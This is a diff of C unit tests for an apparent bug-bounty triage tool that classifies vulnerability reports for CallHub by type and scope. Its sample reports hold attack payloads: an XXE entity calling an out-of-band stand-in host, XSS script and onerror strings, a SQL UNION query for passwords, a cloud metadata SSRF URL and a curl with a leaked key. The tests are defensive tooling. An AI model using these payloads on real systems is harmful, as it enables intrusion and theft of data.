@@ -474,6 +474,15 @@ static void test_policy_exclusions(void **state)
 	    "Content spoofing: as an admin user I can put arbitrary text on "
 	    "https://callhub.io/campaign/1 that every agent sees.",
 	    "content_spoofing", "content spoofing"},
+	/* SQL injection claimed, a 500 shown: the 500 is what the report has. */
+	{"SQLi in list filter",
+	    "Putting a quote in https://callhub.io/list?sort=name' returns error "
+	    "500, so this is SQL injection.", "stack_trace", "stack traces"},
+	/* The account owner as the actor: an administrative user. */
+	{"Fake notice in invitations",
+	    "A malicious account owner can put a fake warning with a phone number "
+	    "in the team name, and it is injected into every invitation email.",
+	    "content_spoofing", "content spoofing"},
     };
     struct report r;
     struct triage t;
@@ -534,6 +543,63 @@ static void test_in_scope_domains(void **state)
     assert_int_equal(t.scope, SCOPE_IN);
     triage_free(&t);
     report_destroy(&r);
+
+    /*
+     * The only URL is where the payload calls home; the asset is a host
+     * of ours named without a scheme.
+     */
+    report_make(&r, "eve@example.org", "Blind XXE", "The contact importer of "
+		"app.callhub.io resolves external entities: <!DOCTYPE r [<!ENTITY % p "
+		"SYSTEM \"http://oob.tester.example/p.dtd\"> %p;]> and my server got the hit.");
+    report_add_url(&r, "http://oob.tester.example/p.dtd");
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_string_equal(first(&t.classes), "xxe");
+    assert_int_equal(t.scope, SCOPE_IN);
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* A link given as a value (href=, ?next=) is the attacker's, not the asset. */
+    report_make(&r, "eve@example.org", "HTML injection in team name", "HTML injection: "
+		"a team name of <a href=\"https://phish.tester.example/login\">verify</a> "
+		"is rendered as a link to every member.");
+    report_add_url(&r, "https://phish.tester.example/login");
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_int_equal(t.scope, SCOPE_IN);
+    assert_false(has(&t.scope_reasons, "phish.tester.example is not in InScopeDomains"));
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* Our address, or our name inside another host, is not an asset. */
+    report_make(&r, "eve@example.org", "XSS", "Dear security@callhub.io, reflected XSS "
+		"at https://callhub.io.login-portal.example/q?s=<script>alert(1)</script>");
+    report_add_url(&r, "https://callhub.io.login-portal.example/q?s=");
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_int_equal(t.scope, SCOPE_OUT);
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* The product and its version name the asset; the vendor API is a means. */
+    report_make(&r, "eve@example.org", "Live API secret in CallHub Agent for iOS 5.2.1",
+		"Running strings on the IPA shows a production key; it works: "
+		"curl -u key: https://api.smsvendor.example/v1/messages");
+    report_add_url(&r, "https://api.smsvendor.example/v1/messages");
+    assert_int_equal(strlist_add(&r.versions, "iOS 5.2.1"), 0);
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_int_not_equal(t.scope, SCOPE_OUT);
+    strlist_free(&r.versions);
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* Only a public IP address: whose it is needs a human. */
+    report_make(&r, "eve@example.org", "Host header injection", "Sending Host: "
+		"other.example to http://198.51.100.7/ makes the reply redirect users "
+		"to that host.");
+    report_add_url(&r, "http://198.51.100.7/");
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_int_equal(t.scope, SCOPE_UNCLEAR);
+    assert_non_null(strstr(first(&t.scope_reasons), "IP address"));
+    triage_free(&t);
+    report_destroy(&r);
     sm_config_free(&cfg);
 }
 
@@ -550,6 +616,26 @@ static void test_third_party(void **state)
     assert_string_equal(first(&t.classes), "xss");
     assert_int_equal(t.scope, SCOPE_OUT);
     assert_true(has(&t.scope_reasons, "checkout.stripe.com is a third-party service, not ours"));
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* A vendor's widget embedded in our pages, by wording alone. */
+    report_make(&r, "eve@example.org", "Visitor e-mail leak",
+		"The chat widget on your pricing page is Zendesk: the zendesk widget "
+		"leaks each visitor's e-mail address into the page.");
+    classify(&r, "eve@example.org", NULL, &t);
+    assert_int_equal(t.scope, SCOPE_OUT);
+    assert_non_null(strstr(first(&t.scope_reasons), "third-party"));
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* The vendor named in passing, the flaw in our page: not out. */
+    report_make(&r, "eve@example.org", "XSS in notes",
+		"Besides the Intercom widget, the notes page keeps "
+		"<img src=x onerror=alert(1)> at https://app.callhub.io/notes/3");
+    report_add_url(&r, "https://app.callhub.io/notes/3");
+    classify(&r, "eve@example.org", NULL, &t);
+    assert_int_equal(t.scope, SCOPE_IN);
     triage_free(&t);
     report_destroy(&r);
 }
@@ -1075,6 +1161,18 @@ static void test_class_wording_and_payloads(void **state)
 	"network (man in the middle) can read it.", "mitm"},
 	{"The PDF export fetches any URL we give it, e.g. "
 	"http://169.254.169.254/latest/meta-data/", "ssrf"},
+	{"Clicking https://app.callhub.io/find?term=%3Cscript%3Ealert(1)%3C/script%3E "
+	"pops an alert: the term is echoed without escaping.", "xss"},
+	{"Sending id=1' UNION SELECT password FROM users-- first gave a 500 error, "
+	"then the rows: SQL injection.", "sqli"},
+	{"No rate limit for newsletter e-mails: I filled a colleague's inbox "
+	"with 500 of them in a minute, e-mail bombing.", "other"},
+	{"The SMS campaign lets anyone pick any sender ID, so texts can "
+	"impersonate a bank.", "other"},
+	{"With a breached password list I logged in using leaked credentials to "
+	"three accounts; two-factor is not enforced.", "auth"},
+	{"The reply carries a redirect to https://elsewhere.example/ when the Host "
+	"header is changed, so the links redirect visitors away.", "open_redirect"},
     };
     struct report r;
     struct triage t;
@@ -1111,6 +1209,9 @@ static void test_class_by_description(void **state)
 	{"Possible man-in-the-middle: missing HSTS header on the login host.", "missing_headers"},
 	{"The error page displays whatever text is put in the q parameter, as plain text.", "content_spoofing"},
 	{"After decompiling the Android app with jadx I found the live Stripe key.", "info_disclosure"},
+	{"The admin password of the router is written on a sticky note at the front desk.", "info_disclosure"},
+	{"I plugged into a free network jack in the lobby and reached the build server.", "other"},
+	{"A link put in the team name is injected into the invitation emails everyone gets.", "content_spoofing"},
     };
     struct report r;
     struct triage t;
@@ -1345,9 +1446,28 @@ static void test_scope_reasons(void **state)
     triage_free(&t);
     report_destroy(&r);
 
+    /* An admin who is only the victim is not the actor of exclusion 3. */
+    judge(&t, &r, "Text injection", "Text injection: https://callhub.io/welcome?note= "
+	  "shows any visitor's text on the page, and even an admin can be fooled by it.", NULL);
+    assert_string_equal(first(&t.classes), "content_spoofing");
+    assert_int_equal(t.scope, SCOPE_IN);
+    triage_free(&t);
+    report_destroy(&r);
+
     /* A listed class, but nothing tells which asset: unclear. */
     judge(&t, &r, "XSS", "I found an XSS, where can I send the details?", NULL);
     assert_int_equal(t.scope, SCOPE_UNCLEAR);
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* No asset named, but the flaw described: CallHub's product, in. */
+    judge(&t, &r, "Old sessions", "After a password change my other session is "
+	  "still valid in the second browser, so an attacker who stole it can keep "
+	  "using the account.", NULL);
+    assert_string_equal(first(&t.classes), "auth");
+    assert_int_equal(t.scope, SCOPE_IN);
+    assert_true(has(&t.scope_reasons, "no asset named: the flaw described is taken "
+		    "as CallHub's (all CallHub products are in scope)"));
     triage_free(&t);
     report_destroy(&r);
 
